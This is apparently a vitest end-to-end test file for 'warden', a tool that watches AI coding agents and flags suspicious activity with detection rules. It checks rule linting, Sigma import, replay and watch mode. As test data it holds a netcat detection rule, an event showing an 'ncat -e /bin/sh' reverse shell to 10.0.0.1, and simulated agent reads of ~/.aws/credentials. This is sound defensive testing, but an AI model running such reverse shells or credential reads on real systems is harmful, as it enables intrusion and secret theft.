// The rules CLI end to end (built `bin/warden`): rules lint/test/list, replay (from any cwd,
// malformed input, stdin, severity filter), and `warden watch` refusing invalid rules and
// reporting a rule that fails at run time without stopping.
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { run, startWatch, WARDEN } from '../helpers/watch.js';

let tmp: string;
beforeAll(() => {
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'warden-rules-cli-'));
  fs.chmodSync(tmp, 0o755);
});
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

function warden(args: string[], opts: { cwd?: string; input?: string } = {}) {
  return spawnSync(WARDEN, args, { cwd: opts.cwd ?? tmp, input: opts.input, encoding: 'utf8', maxBuffer: 1 << 26 });
}

const ev = (o: Record<string, unknown>) =>
  JSON.stringify({
    ts: '2026-01-01T00:00:00.000Z',
    seq: 1,
    kind: 'file.open',
    severity: 'info',
    agent: { name: 'claude', root_pid: 10, session: 'claude-10-x', cwd: '/home/dev/p', home: '/home/dev' },
    proc: { pid: 11, ppid: 10, exe: '/usr/bin/cat', argv: ['cat'], cwd: '/home/dev/p', uid: 1000 },
    file: { path: '/home/dev/.aws/credentials', op: 'read', flags: ['read'] },
    ...o,
  });

describe('warden rules', () => {
  it('import-sigma converts a Sigma rule into rule YAML that lints, and says why for one it cannot convert', () => {
    const dir = path.join(tmp, 'sigma');
    fs.mkdirSync(dir, { recursive: true });
    fs.writeFileSync(
      path.join(dir, 'nc.yml'),
      'title: Netcat exec\nid: 11111111-2222-3333-4444-555555555555\nauthor: Someone\nreferences: [https://example.invalid/nc]\ntags: [attack.execution, attack.t1059.004]\nlevel: high\nlogsource: {category: process_creation, product: linux}\ndetection:\n  sel:\n    Image|endswith: [/nc, /ncat]\n    CommandLine|contains: " -e "\n  condition: sel\n',
    );
    fs.writeFileSync(path.join(dir, 'auditd.yml'), 'title: A\nlogsource: {product: linux, service: auditd}\ndetection:\n  sel:\n    type: EXECVE\n  condition: sel\n');
    const out = path.join(tmp, 'sigma-out.yaml');
    const r = warden(['rules', 'import-sigma', dir, '-o', out]);
    expect(r.status).toBe(0);
    expect(r.stderr).toMatch(/process_creation \| 1 \| 0/);
    expect(r.stderr).toMatch(/not converted: .*auditd\.yml: logsource service auditd/);
    const text = fs.readFileSync(out, 'utf8');
    expect(text).toMatch(/Detection Rule License/);
    expect(text).toMatch(/id: sigma_nc/);
    expect(text).toMatch(/author: Someone/);
    expect(warden(['rules', 'lint', out]).status).toBe(0);
    // the converted rule fires on the behaviour
    const line = ev({ kind: 'process.exec', proc: { pid: 11, ppid: 10, exe: '/usr/bin/ncat', argv: ['ncat', '-e', '/bin/sh', '10.0.0.1', '4444'], cwd: '/home/dev/p', uid: 1000 }, file: undefined });
    const rep = warden(['replay', '-', '-r', out, '--min-severity', 'alert'], { input: line + '\n' });
    expect(rep.stdout).toMatch(/"rule":"sigma_nc"|sigma_nc/);
  });

  it('rules.packs loads the shipped sigma pack, and an unknown pack is a config error with file and line (exit 2)', () => {
    const cfg = path.join(tmp, 'packs.yaml');
    fs.writeFileSync(cfg, 'rules:\n  packs: [sigma]\n');
    const list = warden(['rules', 'list', '-c', cfg]);
    expect(list.status).toBe(0);
    expect(list.stdout).toMatch(/sigma_proc_creation_lnx_python_reverse_shell/);
    fs.writeFileSync(cfg, 'rules:\n  packs: [nope]\n');
    const bad = warden(['rules', 'lint', '-c', cfg]);
    expect(bad.status).toBe(2);
    expect(bad.stderr).toMatch(/packs\.yaml:2.*unknown rule pack "nope"/s);
  });

  it('lints the default rules from any directory, and names file and line of a bad rule (exit 2)', () => {
    const ok = warden(['rules', 'lint'], { cwd: '/' });
    expect(ok.status).toBe(0);
    expect(ok.stdout).toMatch(/ok: \d+ rules/);
    const bad = path.join(tmp, 'bad.yaml');
    fs.writeFileSync(bad, 'rules:\n  - id: broken\n    kinds: [process.exec]\n    condition: proc.nmae == "x"\n    severity: info\n');
    const r = warden(['rules', 'lint', bad]);
    expect(r.status).toBe(2);
    expect(r.stderr).toContain(`${bad}:4`);
    expect(r.stderr).toContain('rule broken');
    expect(r.stderr).toContain('unknown field proc.nmae');
  });

  it('runs the shipped fixtures and lists the rules', () => {
    const t = warden(['rules', 'test', '--coverage'], { cwd: '/' });
    expect(t.status).toBe(0);
    expect(t.stdout).toMatch(/(\d+)\/\1 fixtures passed/);
    const l = warden(['rules', 'list', '--json']);
    const rules = JSON.parse(l.stdout) as Array<{ id: string; enabled: boolean }>;
    expect(rules.length).toBeGreaterThan(90);
    expect(rules.find((x) => x.id === 'cred_read_cloud_credentials')?.enabled).toBe(true);
  });

  it('fails a fixture that does not hold (exit 1)', () => {
    const f = path.join(tmp, 'fx.yaml');
    fs.writeFileSync(f, 'fixtures:\n  - name: wrong\n    events:\n      - { kind: process.exec, proc: { argv: [ls] } }\n    expect:\n      fire: [privesc_sudo]\n');
    const t = warden(['rules', 'test', f]);
    expect(t.status).toBe(1);
    expect(t.stdout).toContain('FAIL');
  });
});

describe('warden replay', () => {
  it('classifies a recording, counts malformed lines, never fails on them', () => {
    const file = path.join(tmp, 'rec.ndjson');
    fs.writeFileSync(file, [ev({}), '{"broken', 'garbage', ev({ seq: 2, kind: 'process.exec', file: undefined, proc: { pid: 12, ppid: 10, exe: '/usr/bin/sudo', argv: ['sudo', 'id'], cwd: '/', uid: 1000 } })].join('\n') + '\n');
    const r = warden(['replay', file, '--stats', '--json'], { cwd: '/' });
    expect(r.status).toBe(0);
    const s = JSON.parse(r.stderr.trim().split('\n').pop()!);
    expect(s.lines).toBe(4);
    expect(s.malformed).toBe(2);
    expect(s.alerts).toBe(2);
    expect(s.rules.cred_read_cloud_credentials).toBe(1);
    expect(s.rules.privesc_sudo).toBe(1);

    const out = path.join(tmp, 'alerts.ndjson');
    const w = warden(['replay', file, '--min-severity', 'alert', '-o', out]);
    expect(w.status).toBe(0);
    expect(w.stderr).toMatch(/2 malformed line/);
    const lines = fs.readFileSync(out, 'utf8').trim().split('\n').map((l) => JSON.parse(l));
    expect(lines.map((l) => l.rule)).toEqual(['cred_read_cloud_credentials', 'privesc_sudo']);
    expect(lines[1].seq).toBeGreaterThan(lines[0].seq);
  });

  it('reads stdin and applies user rules and disables from a config', () => {
    const rules = path.join(tmp, 'mine.yaml');
    fs.writeFileSync(rules, 'rules:\n  - id: my_cat\n    kinds: [file.open]\n    condition: proc.name == "cat"\n    severity: warn\n    category: collection\n    mitre: [T1005]\n');
    const cfg = path.join(tmp, 'watch.yaml');
    fs.writeFileSync(cfg, 'rules:\n  files: [mine.yaml]\n  disable: [cred_read_cloud_credentials]\n');
    const r = warden(['replay', '-', '--config', cfg], { input: ev({}) + '\n' });
    expect(r.status).toBe(0);
    const e = JSON.parse(r.stdout.trim());
    expect(e.rule).toBe('my_cat');
    expect(e.severity).toBe('warn');
  });

  it('refuses a bad option value and a missing file', () => {
    expect(warden(['replay', 'x.ndjson', '--min-severity', 'loud']).status).toBe(2);
    expect(warden(['replay', path.join(tmp, 'nope.ndjson')]).status).toBe(1);
  });

  it('--json alone prints the statistics as JSON, not the events (it was ignored)', () => {
    const file = path.join(tmp, 'rec-json.ndjson');
    fs.writeFileSync(file, ev({}) + '\n');
    const r = warden(['replay', file, '--json']);
    expect(r.status).toBe(0);
    expect(r.stdout).toBe('');
    expect(JSON.parse(r.stderr.trim().split('\n').pop()!).lines).toBe(1);
  });

  it('fails plainly (exit 1, no stack) on a directory and on an output it cannot write', () => {
    const d = warden(['replay', tmp]);
    expect(d.status).toBe(1);
    expect(d.stderr).toContain(`cannot open ${tmp}: EISDIR`);
    expect(d.stderr).not.toMatch(/\n\s+at /);
    const file = path.join(tmp, 'rec-out.ndjson');
    fs.writeFileSync(file, ev({}) + '\n');
    // It exited 0 with nothing written. A directory as the output fails as root too.
    const o = warden(['replay', file, '-o', tmp]);
    expect(o.status).toBe(1);
    expect(o.stderr).toContain(`cannot write ${tmp}: EISDIR`);
  });
});

const root = process.getuid?.() === 0;

describe.skipIf(!root)('warden watch with rules', () => {
  // The rules are loaded before any output is opened: no audit file, no API socket keeping the
  // process alive.
  it('refuses to start with an invalid rule file (exit 2, file and line)', () => {
    const bad = path.join(tmp, 'bad-watch.yaml');
    fs.writeFileSync(bad, 'rules:\n  - id: nope\n    kinds: [file.open]\n    condition: "file.path ==="\n    severity: info\n');
    const cfg = path.join(tmp, 'bad-cfg.yaml');
    fs.writeFileSync(cfg, `rules:\n  files: [${bad}]\n`);
    const r = spawnSync(WARDEN, ['watch', '--config', cfg, '-o', path.join(tmp, 'never.ndjson')], { encoding: 'utf8', timeout: 60_000, env: { ...process.env, XDG_RUNTIME_DIR: tmp } });
    expect(r.status).toBe(2);
    expect(r.stderr).toContain(`${bad}:4`);
    expect(fs.existsSync(path.join(tmp, 'never.ndjson'))).toBe(false);
  });

  it('disables a rule that throws on real events, reports rule.error, and keeps classifying', async () => {
    const rules = path.join(tmp, 'fragile.yaml');
    fs.writeFileSync(rules, 'rules:\n  - id: fragile_int\n    kinds: [process.exec]\n    condition: proc.name == "warden-fragile" && int(proc.argv[1]) > 0\n    severity: warn\n    category: execution\n    mitre: [T1059]\n');
    const cfg = path.join(tmp, 'fragile-cfg.yaml');
    fs.writeFileSync(cfg, `rules:\n  files: [${rules}]\n`);
    const w = await startWatch(['--config', cfg]);
    try {
      const bin = path.join(tmp, 'warden-fragile');
      fs.copyFileSync('/bin/true', bin);
      // an agent runs the program with a non-numeric argument, then reads a secret
      const home = path.join(tmp, 'home');
      fs.mkdirSync(path.join(home, '.aws'), { recursive: true });
      fs.writeFileSync(path.join(home, '.aws', 'credentials'), 'x');
      const r = await run('bash', ['-c', `${bin} not-a-number; cat ${home}/.aws/credentials > /dev/null`], { argv0: 'claude', env: { ...process.env, HOME: home } });
      expect(r.code).toBe(0);
      const err = await w.waitFor((e) => e.kind === 'rule.error' && e.rule === 'fragile_int', 20_000, 'rule.error');
      expect(String(err.data?.['error'])).toMatch(/not a number/);
      await w.waitFor((e) => e.rule === 'cred_read_cloud_credentials' && e.agent?.root_pid === r.pid, 20_000, 'the secret read, after the failure');
    } finally {
      await w.stop();
    }
  });
});
